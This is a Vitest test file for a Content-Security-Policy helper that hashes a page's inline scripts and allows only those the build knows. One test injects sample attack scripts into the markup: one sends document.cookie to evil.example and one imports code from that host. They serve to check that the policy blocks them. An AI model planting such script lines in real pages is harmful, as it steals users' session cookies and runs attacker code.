import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { allowedScriptHashes, cspScriptHashes, knownScriptHashes } from "./csp";

const hashOf = (script: string) => `'sha256-${createHash("sha256").update(script, "utf8").digest("base64")}'`;
const legit = "(function(){try{var p=location.pathname}catch(e){}})();";
const page = (body: string) =>
  `<!doctype html><html><head><script>${legit}</script><script type="application/ld+json">{"a":1}</script></head><body>${body}</body></html>`;

describe("inline scripts a rendered page's CSP may allow", () => {
  const known = knownScriptHashes([{ scriptHashes: cspScriptHashes(page("")) }, { scriptHashes: undefined }]);

  it("knows the build's inline scripts (not its JSON data blocks)", () => {
    expect([...known]).toEqual([hashOf(legit)]);
  });

  it("allows the app's own script and nothing that was injected into the markup", () => {
    const injected = page(
      `<p>x</p><script>fetch("https://evil.example/?c="+document.cookie)</script><script type="module">import("//evil.example/x.js")</script>`,
    );
    expect(cspScriptHashes(injected)).toHaveLength(3);
    expect(allowedScriptHashes(injected, known)).toEqual({ hashes: [hashOf(legit)], unknown: 2 });
  });

  it("allows a clean page's scripts all", () => {
    expect(allowedScriptHashes(page("<p>ok</p>"), known)).toEqual({ hashes: [hashOf(legit)], unknown: 0 });
  });

  it("allows nothing when the build has no inline script", () => {
    expect(allowedScriptHashes(page(""), new Set())).toEqual({ hashes: [], unknown: 1 });
  });
});
